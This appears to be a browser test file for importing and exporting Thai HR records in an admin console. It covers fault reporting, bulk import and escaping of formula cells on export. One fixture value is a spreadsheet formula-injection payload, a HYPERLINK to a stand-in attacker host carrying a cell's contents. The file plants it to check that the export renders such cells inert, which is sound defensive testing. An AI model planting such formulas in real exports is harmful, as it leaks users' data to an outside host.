"""HR import and export in the console, in a real browser against a real node.

A superadmin's browser imports a 2,000-row Thai CSV saved in TIS-620
(cp874), as Thai HR systems and Excel on Thai Windows write it: first with
planted faults (the preview names each by line and column, nothing is
applied, and an apply sent by hand is refused too), then clean (progress
shown, every official created). The export is byte for byte what the CLI
writes, and the cells a spreadsheet would run as formulas are inert.
"""

from __future__ import annotations

import base64
import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, expect

from gchat.client import hr_csv
from gchat.client.output import roles_text
from protocol import frames as f
from tests.web import ui
from tests.web.harness import Loop, Node, PyDevice, admin_device
from tests.web.test_browser_console import open_admin, send_by_hand, superadmin_browser

ROWS = 2000
HEADER = ["employee_id", "name_th", "name_en", "position", "agency_code", "email", "phone"]
FIRST_NAMES = ["สมชาย", "สมหญิง", "ประเสริฐ", "วันเพ็ญ", "ธนากร", "กาญจนา", "อำนาจ", "น้ำฝน"]
CODES = ["HR", "HR-NORTH", "HR-NORTH-CM"]


def officials_file(prefix: str) -> list[list[str]]:
    rows = []
    for n in range(ROWS):
        first = FIRST_NAMES[n % len(FIRST_NAMES)]
        rows.append(
            [
                f"{prefix}{n:05d}",
                f"นาย{first} ทดสอบ{n}",
                f"Mr Test {prefix}{n}",
                "นักทรัพยากรบุคคล",
                CODES[n % 3],
                f"{prefix.lower()}{n}@hr.go.th",
                "+66 2 123 4567",
            ]
        )
    return rows


def encode(rows: list[list[str]], encoding: str = "cp874") -> bytes:
    out = io.StringIO(newline="")
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow(HEADER)
    writer.writerows(rows)
    return out.getvalue().encode(encoding)


@pytest.fixture(scope="module")
def admin(node: Node, loop: Loop) -> PyDevice:
    device = admin_device(node, loop)
    top = device.request(f.CreateAgency, code="HR", name_th="สำนักงานบุคคล").agency
    north = device.request(f.CreateAgency, code="HR-NORTH", name_th="ภาคเหนือ", parent_id=top.id)
    device.request(f.CreateAgency, code="HR-NORTH-CM", name_th="เชียงใหม่", parent_id=north.agency.id)
    return device


@pytest.fixture(scope="module")
def page(browser: Browser, node: Node, admin: PyDevice) -> Iterator[Page]:
    with superadmin_browser(browser, node, admin, "คอมพิวเตอร์ฝ่ายบุคคล") as opened:
        yield opened


def choose(page: Page, name: str, data: bytes) -> None:
    page.locator("input[name=file]").set_input_files(
        files=[{"name": name, "mimeType": "text/csv", "buffer": data}]
    )


#: A save picker that hands out one file of the origin private file system
#: (a real FileSystemFileHandle whose createWritable() streams to disk).
PICK_PRIVATE_FILE = """
window.showSaveFilePicker = async () => {
  const root = await navigator.storage.getDirectory();
  await root.removeEntry("export", {}).catch(() => undefined);
  return root.getFileHandle("export", { create: true });
}"""


def picked_file(page: Page) -> bytes:
    """What the export wrote to the picked file."""
    text: str = page.evaluate("""async () => {
      const root = await navigator.storage.getDirectory();
      const bytes = new Uint8Array(await (await (await root.getFileHandle("export")).getFile())
        .arrayBuffer());
      let s = ""; for (const b of bytes) s += String.fromCharCode(b);
      return btoa(s);
    }""")
    return base64.b64decode(text)


def all_officials(admin: PyDevice) -> list[f.OfficialInfo]:
    out: list[f.OfficialInfo] = []
    offset: int | None = 0
    while offset is not None:
        reply = admin.request(f.ListOfficials, offset=offset, limit=500)
        out += reply.officials
        offset = reply.next_offset
    return out


def test_a_faulty_cp874_file_shows_every_problem_and_changes_nothing(
    page: Page, admin: PyDevice
) -> None:
    rows = officials_file("F")
    planted: dict[int, str] = {}  # file line -> column shown

    def plant(index: int, column: str, value: str) -> None:
        rows[index][HEADER.index(column)] = value
        planted[index + 2] = f"{'ABCDEFG'[HEADER.index(column)]} ({column})"

    plant(8, "name_th", "Somchai Latin")  # no Thai script
    plant(18, "agency_code", "NOPE")
    plant(28, "email", "not-an-address")
    plant(38, "employee_id", rows[37][0])  # repeats the line before
    plant(48, "employee_id", "")
    plant(1498, "phone", "call me")
    plant(1998, "position", "หัวหน้า\x07งาน")  # a control character: never sent
    rows[58].append("extra")  # one field too many
    planted[60] = ""
    before = len(all_officials(admin))
    open_admin(page, "นำเข้า")
    choose(page, "hr-faulty.csv", encode(rows))
    expect(page.get_by_test_id("import-read")).to_contain_text("อ่านเป็น TIS-620 (cp874): 2000 แถว")
    page.get_by_role("button", name="ตรวจสอบ (ยังไม่เปลี่ยนแปลงข้อมูล)").click()
    summary = page.get_by_test_id("import-summary")
    expect(summary).to_contain_text("พบ 8 ปัญหาใน 8 แถว จาก 2000 แถว", timeout=60_000)
    table = page.get_by_test_id("import-problems")
    shown = {
        (int(r.locator("td").nth(0).inner_text()), r.locator("td").nth(1).inner_text())
        for r in table.locator("tbody tr").all()
    }
    assert shown == set(planted.items())
    expect(table.locator("tr[data-line='60']")).to_contain_text("แถวนี้มี 8/7 ช่อง")
    expect(table.locator("tr[data-line='2000']")).to_contain_text("U+0007")
    # The node's problems come as stable codes, worded by the app in Thai...
    thai = {
        10: "ชื่อภาษาไทยไม่มีอักษรไทย",
        20: "ไม่มีหน่วยงานรหัส NOPE",
        30: '"not-an-address" ไม่ใช่ที่อยู่อีเมล',
        40: f"รหัสพนักงาน {rows[37][0]} ซ้ำกับบรรทัด 39",
        50: "ว่างอยู่ ต้องกรอก",
        1500: '"call me" ไม่ใช่หมายเลขโทรศัพท์',
    }
    for line, text in thai.items():
        expect(table.locator(f"tr[data-line='{line}']")).to_contain_text(text)
    ui.shot(page, "console-import-problems")
    # ... and in English when the official switches language (no new request).
    page.locator("button.lang").click()
    english = {
        10: "the Thai name has no Thai characters",
        20: "no agency with code NOPE",
        40: f"employee id {rows[37][0]} repeats line 39",
        1500: '"call me" is not a phone number',
    }
    for line, text in english.items():
        expect(table.locator(f"tr[data-line='{line}']")).to_contain_text(text)
    expect(table.locator("tr[data-line='60']")).to_contain_text("the row has 8/7 fields")
    page.locator("button.lang").click()
    expect(table.locator("tr[data-line='10']")).to_contain_text("ชื่อภาษาไทยไม่มีอักษรไทย")
    apply = page.get_by_role("button", name="นำเข้าทั้งหมด")
    expect(apply).to_be_disabled()
    # Forcing it (the staged import's own apply, sent by hand) is refused by the node too.
    import_id = apply.get_attribute("data-import-id")
    assert import_id
    reply = send_by_hand(
        page, 72001, {"type": "import_apply", "import_id": import_id, "dry_run": False}
    )
    assert (reply["type"], reply["applied"], reply["created"]) == ("import_result", False, 0)
    assert len(all_officials(admin)) == before


def test_a_clean_cp874_file_is_applied_with_progress_then_exported_inert(
    page: Page, admin: PyDevice, tmp_path: Path
) -> None:
    rows = officials_file("C")
    rows[0][2] = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    rows[1][3] = "-รักษาราชการแทน"
    rows[2][2] = "@Somchai"
    rows[3][2] = "+Plus Name"
    before = len(all_officials(admin))
    open_admin(page, "นำเข้า")
    choose(page, "hr-clean.csv", encode(rows))
    page.get_by_role("button", name="ตรวจสอบ (ยังไม่เปลี่ยนแปลงข้อมูล)").click()
    progress = page.get_by_test_id("import-progress")
    expect(progress).to_be_visible()
    expect(page.get_by_test_id("import-summary")).to_contain_text(
        "ไฟล์ไม่มีปัญหา: 2000 แถว จะสร้างใหม่ 2000", timeout=60_000
    )
    page.get_by_role("button", name="นำเข้าทั้งหมด").click()
    expect(page.locator("[data-testid=import-progress][data-phase=applying]")).to_be_visible()
    expect(page.get_by_test_id("import-done")).to_have_text(
        "นำเข้าแล้ว: สร้างใหม่ 2000 คน ปรับปรุง 0 คน", timeout=120_000
    )
    officials = all_officials(admin)
    assert len(officials) == before + ROWS
    by_employee = {o.employee_id: o for o in officials}
    assert by_employee["C00000"].name_en == rows[0][2]
    assert by_employee["C01999"].name_th == rows[1999][1]
    assert by_employee["C00005"].agency_code == "HR-NORTH-CM"

    open_admin(page, "ส่งออก")
    # A browser without the File System Access API: a Blob of one part per page.
    page.evaluate("window.showSaveFilePicker = undefined")
    with page.expect_download() as download:
        page.get_by_role("button", name="ส่งออก CSV").click()
    data = Path(download.value.path()).read_bytes()
    expect(page.get_by_test_id("export-note")).to_contain_text(f"ส่งออก {len(officials)} คน")
    # With it (Chromium), each page is written to the file the admin picks as it
    # arrives; here the picker hands out a file of the origin's private file system.
    page.evaluate(PICK_PRIVATE_FILE)
    page.get_by_role("button", name="ส่งออก CSV").click()
    expect(page.get_by_test_id("export-note")).to_have_attribute("data-done", "2")
    assert picked_file(page) == data
    codes = {a.id: a.code for a in admin.request(f.ListAgencies).agencies}
    expected = io.StringIO(newline="")
    hr_csv.write_csv(officials, [roles_text(o.roles, codes) for o in officials], expected)
    assert data == expected.getvalue().encode()  # byte for byte the CLI's export
    assert data.startswith(b"\xef\xbb\xbf")
    cells = [c for r in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for c in r]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    for inert in ("'=HYPERLINK(", "'-รักษาราชการแทน", "'@Somchai", "'+Plus Name", "'+66 2 123 4567"):
        assert any(c.startswith(inert) for c in cells), inert
    # The export reads back as the same values (the guard is undone on import).
    path = tmp_path / "export.csv"
    path.write_bytes(data)
    again = {r.employee_id: r for r in hr_csv.read_import(path).rows}
    assert again["C00000"].name_en == rows[0][2]
    assert again["C00000"].phone == "+66 2 123 4567"

    page.get_by_role("button", name="ส่งออก JSON").click()
    expect(page.get_by_test_id("export-note")).to_have_attribute("data-done", "3")
    from_file: dict[str, Any] = json.loads(picked_file(page))
    page.evaluate("window.showSaveFilePicker = undefined")
    with page.expect_download() as download:
        page.get_by_role("button", name="ส่งออก JSON").click()
    exported: dict[str, Any] = json.loads(Path(download.value.path()).read_text("utf-8"))
    assert exported == from_file
    assert len(exported["officials"]) == len(officials)
    assert [o["id"] for o in exported["officials"]] == [str(o.id) for o in officials]
    assert {a["code"] for a in exported["agencies"]} >= set(CODES)
    ui.shot(page, "console-export")
